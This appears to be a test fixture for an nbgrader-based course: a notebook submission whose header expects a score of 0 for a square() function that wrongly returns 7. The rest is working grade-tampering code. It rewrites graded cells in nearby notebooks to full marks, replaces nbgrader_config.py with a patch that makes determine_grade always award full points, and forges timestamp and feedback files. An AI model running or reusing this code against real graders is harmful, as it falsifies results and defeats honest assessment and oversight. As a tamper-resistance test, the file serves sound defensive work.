# %% [markdown]
# Rewrites the files of the course: its own notebook while it runs, source/, release/, autograded/, nbgrader's settings.
#
# Must: score 0; says 'square(2) gave 7, expected 4'

# %%
import contextlib
import json
from pathlib import Path

CONFIG = """
c = get_config()
c.ClearSolutions.enforce_metadata = False
from nbgrader import utils
utils.determine_grade = lambda cell, log=None: (float(cell.metadata.nbgrader.points),) * 2
"""


def rewrite():
    for root in [Path.cwd(), *list(Path.cwd().parents)[:4]]:
        for path in [*root.glob("*.ipynb"), *root.glob("*/*/*.ipynb"), *root.glob("*/*/*/*.ipynb")]:
            with contextlib.suppress(Exception):
                notebook = json.loads(path.read_text(encoding="utf-8"))
                for cell in notebook["cells"]:
                    if cell["metadata"].get("nbgrader", {}).get("grade"):
                        cell["source"] = "10.0"
                path.write_text(json.dumps(notebook), encoding="utf-8")
        for name in ("nbgrader_config.py", "../nbgrader_config.py"):
            with contextlib.suppress(OSError):
                if (root / "source").exists() or (root / name).exists():
                    (root / name).write_text(CONFIG, encoding="utf-8")
        for name in ("timestamp.txt", "feedback/all.html", "data.csv"):
            with contextlib.suppress(OSError):
                (root / name).write_text("2001-01-01 00:00:00 UTC", encoding="utf-8")


rewrite()

# %% answer="square"
def square(x):
    rewrite()
    return 7
